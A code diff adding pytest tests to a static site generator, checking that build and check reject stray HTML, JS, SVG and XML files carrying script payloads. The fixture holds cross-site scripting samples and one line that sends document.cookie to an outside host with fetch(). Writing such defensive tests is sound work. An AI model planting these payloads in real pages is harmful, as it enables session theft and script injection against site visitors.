@@ -1098,6 +1098,42 @@ def test_a_page_outside_papers_that_nothing_lists_is_an_error(
     assert not generated_seed.site_dir.exists()
 
 
+STRAY_FILES = {
+    "site_src/login.html": "<script>alert(1)</script>",
+    "site_src/papers/steal.js": "fetch('https://example.org/?' + document.cookie)",
+    "site_src/tags/x.svg": '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+    "site_src/papers/Page.HTM": "<script>alert(1)</script>",
+    "site_src/feeds/evil.xml": '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
+}
+
+
+@pytest.mark.parametrize("path", STRAY_FILES)
+@pytest.mark.parametrize("command", ["build", "check"])
+def test_a_file_a_browser_would_run_outside_assets_is_an_error(
+    generated_seed: Config, path: str, command: str
+) -> None:
+    (generated_seed.root / path).parent.mkdir(parents=True, exist_ok=True)
+    (generated_seed.root / path).write_text(STRAY_FILES[path], encoding="utf-8")
+    code, _, err = cli([command, "--root", str(generated_seed.root)])
+    assert code == 1
+    suffix = path.rpartition(".")[2].lower()
+    assert f"{path}: error: is a .{suffix} file, which the site would publish as it is" in err
+    assert not generated_seed.site_dir.exists()
+
+
+def test_the_sites_own_assets_and_inert_files_are_published(generated_seed: Config) -> None:
+    docs = generated_seed.docs_dir
+    (docs / "assets" / "extra.js").write_text("console.log(1)\n", encoding="utf-8")
+    (docs / "papers" / "figure.png").write_bytes(b"\x89PNG\r\n\x1a\n")
+    (docs / ".draft.html").write_text("<p>not published</p>", encoding="utf-8")
+    code, _, err = cli(["build", "--root", str(generated_seed.root)])
+    assert code == 0, err
+    site = generated_seed.site_dir
+    assert (site / "assets" / "extra.js").is_file()
+    assert (site / "papers" / "figure.png").is_file()
+    assert not (site / ".draft.html").exists()
+
+
 def test_a_page_listed_in_nav_is_held_to_the_schema(generated_seed: Config) -> None:
     mkdocs = generated_seed.root / "mkdocs.yml"
     mkdocs.write_text(
